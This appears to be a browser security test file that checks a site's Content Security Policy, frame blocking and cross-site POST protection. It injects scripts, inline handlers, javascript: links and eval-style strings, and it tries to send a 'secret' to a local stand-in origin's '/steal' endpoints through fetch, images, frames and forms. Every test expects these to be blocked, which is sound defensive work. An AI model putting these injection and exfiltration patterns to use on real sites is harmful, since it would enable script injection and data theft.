// What somebody who got a foot into the page could try: the browser itself refuses it, on the portal and on the plain
// pages, and says which rule it broke.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, test } from 'node:test';
import { PATIENCE } from './support/browser.mjs';
import { useStreet } from './support/fixture.mjs';
import { until } from './support/wait.mjs';

/** @typedef {import('playwright-core').Page} Page */

/** Another origin, which writes down what reaches it. */
const foreign = { url: '', heard: /** @type {string[]} */ ([]), frame: '' };
const listener = http.createServer((request, answer) => {
  foreign.heard.push(`${request.method} ${request.url}`);
  answer.setHeader('content-type', 'text/html');
  answer.setHeader('access-control-allow-origin', '*');
  answer.end(request.url === '/frame' ? foreign.frame : '');
});
const street = useStreet({
  prepare: async (street) => {
    await new Promise((resolve) => listener.listen(0, '127.0.0.1', () => resolve(undefined)));
    const { port } = /** @type {import('node:net').AddressInfo} */ (listener.address());
    foreign.url = `http://127.0.0.1:${port}`;
    foreign.frame = `<!doctype html><title>frame</title><iframe name="inner" src="${street.url}/plain/"></iframe>`;
  },
});
after(() => {
  listener.close();
});

/** Opens a page that remembers which rules were broken. @param {string} path */
async function openPage(path) {
  const context = await street.browser.newContext({ locale: 'zh-CN' });
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE);
  await page.addInitScript(() => {
    /** @type {any} */ (window).broken = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      /** @type {any} */ (window).broken.push(event.effectiveDirective));
  });
  await page.goto(street.url + path);
  return { context, page };
}

/** @param {Page} page @param {string} rule */
const untilBroken = (page, rule) =>
  until(() => page.evaluate((name) => /** @type {any} */ (window).broken.includes(name), rule), `${rule} stops it`);

for (const path of ['/', '/plain/']) {
  test(`${path}: a script that was put into the page does not run`, async () => {
    const { context, page } = await openPage(path);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.owned = 1';
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.owned = 2');
      const link = document.createElement('a');
      link.href = 'javascript:window.owned=3';
      document.body.append(script, button, link);
      button.click();
      link.click();
    });
    await untilBroken(page, 'script-src-elem');
    await untilBroken(page, 'script-src-attr');
    await page.evaluate((url) => {
      const script = document.createElement('script');
      script.src = `${url}/evil.js`;
      document.body.append(script);
    }, foreign.url);
    // A text that is run later, as eval would: what a debugger evaluates at once is spared by the browser.
    // eslint-disable-next-line no-implied-eval -- this is the attack
    await page.evaluate(() => void setTimeout(/** @type {any} */ ('window.owned = 4')));
    await untilBroken(page, 'script-src');
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).owned), undefined);
    assert.deepEqual(foreign.heard.filter((one) => one.includes('evil')), []);
    await context.close();
  });

  test(`${path}: nothing can be carried to another place`, async () => {
    const { context, page } = await openPage(path);
    const answer = await page.evaluate((url) => fetch(`${url}/steal`, { method: 'POST', body: 'secret' })
      .then(() => 'sent', () => 'blocked'), foreign.url);
    assert.equal(answer, 'blocked');
    await untilBroken(page, 'connect-src');
    await page.evaluate((url) => {
      const image = document.createElement('img');
      image.src = `${url}/steal.png?secret`;
      const frame = document.createElement('iframe');
      frame.src = `${url}/steal.html?secret`;
      document.body.append(image, frame);
    }, foreign.url);
    await untilBroken(page, 'img-src');
    await untilBroken(page, 'frame-src');
    await page.evaluate((url) => {
      const form = document.createElement('form');
      form.action = `${url}/steal`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    }, foreign.url);
    await untilBroken(page, 'form-action');
    assert.deepEqual(foreign.heard.filter((one) => one.includes('steal')), []);
    await context.close();
  });
}

test('another site cannot put our pages into a frame, nor post to us with a person’s session', async () => {
  const context = await street.browser.newContext({ locale: 'zh-CN' });
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE);
  await page.goto(`${foreign.url}/frame`);
  const inner = page.frame('inner');
  assert.ok(inner);
  await until(() => inner.url().startsWith('chrome-error:'), 'the frame stays empty');
  const [answer] = await Promise.all([
    page.waitForResponse((one) => one.url() === `${street.url}/plain/logout`),
    page.evaluate((url) => {
      const form = document.createElement('form');
      form.action = `${url}/plain/logout`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    }, street.url),
  ]);
  assert.equal(answer.status(), 403);
  await context.close();
});
